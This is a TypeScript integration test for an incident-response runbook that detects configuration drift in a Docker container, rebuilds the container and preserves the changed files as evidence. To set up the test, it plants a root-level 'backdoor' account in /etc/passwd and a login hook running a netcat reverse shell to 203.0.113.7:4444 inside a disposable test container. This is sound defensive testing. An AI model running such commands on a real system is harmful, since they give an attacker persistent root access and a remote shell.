import type Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execIn, removeQuietly, startVictim, TEST_IMAGE, testDocker, uniqueName } from '../helpers/docker.js';
import { expectCustodyVerifies, expectEvidenceIntact, findings, runbookWorkspace, runThroughApproval, type RunbookWorkspace } from './runbook-workspace.js';

describe('shipped runbook config-drift', () => {
  const docker = testDocker();
  const name = uniqueName('drift');
  let original: Docker.ContainerInspectInfo;
  let ws: RunbookWorkspace;
  let incidentId: string;

  beforeAll(async () => {
    const victim = await startVictim(docker, { name });
    original = await victim.inspect();
    // an unauthorised account and a login hook, plus a log write the allowlist accepts
    await execIn(victim, [
      'sh',
      '-c',
      'echo "backdoor:x:0:0::/root:/bin/sh" >> /etc/passwd && mkdir -p /etc/profile.d /var/log && echo "nc 203.0.113.7 4444 -e /bin/sh &" > /etc/profile.d/zz.sh && echo ok > /var/log/app.log',
    ]);
    ws = runbookWorkspace();
    incidentId = await runThroughApproval(ws, 'config-drift', { container: name, clean_image: TEST_IMAGE });
  }, 90_000);

  afterAll(async () => {
    await removeQuietly(docker.getContainer(name));
    await ws?.removeForensicImages();
  });

  it('reviewed the diff: the account and the login hook are persistence, the allowlisted log is not a finding', () => {
    const reviewed = findings(ws, incidentId).filter((finding) => finding.step_id === 'review-diff');
    expect(reviewed.map((finding) => [finding.kind, JSON.parse(finding.detail).path, JSON.parse(finding.detail).persistence])).toEqual([
      ['account', '/etc/passwd', true],
      ['shell-profile', '/etc/profile.d/zz.sh', true],
    ]);
    const [review] = ws.query<{ outputs: string }>("SELECT outputs FROM step_journal WHERE incident_id = ? AND step_id = 'review-diff'", incidentId);
    expect(JSON.parse(review!.outputs)).toMatchObject({ persistence: true, count: 2, max_severity: 'high' });
  });

  it('found no image drift: the container runs the expected image', () => {
    const [image] = ws.query<{ outputs: string }>("SELECT outputs FROM step_journal WHERE incident_id = ? AND step_id = 'image-drift'", incidentId);
    expect(JSON.parse(image!.outputs)).toMatchObject({ drift: false, running_image_id: original.Image });
  });

  it('rebuilt the container so the changed files are gone', async () => {
    const fresh = docker.getContainer(name);
    expect((await fresh.inspect()).Id).not.toBe(original.Id);
    const changes = await fresh.changes();
    expect(Buffer.isBuffer(changes) ? JSON.parse(changes.toString()) : changes).toBeNull();
  });

  it('keeps the changed files as evidence, intact, with a custody chain that verifies', async () => {
    const byKind = expectEvidenceIntact(ws, incidentId);
    expect(
      byKind
        .get('files')
        ?.map((file) => file.path)
        .sort(),
    ).toEqual([
      // one raw file each (evidence.files splits its archive per file)
      expect.stringMatching(/_etc_passwd$/),
      expect.stringMatching(/_etc_profile\.d_zz\.sh$/),
      expect.stringMatching(/_var_log_app\.log$/),
    ]);
    await expectCustodyVerifies(ws, incidentId);
  });
});
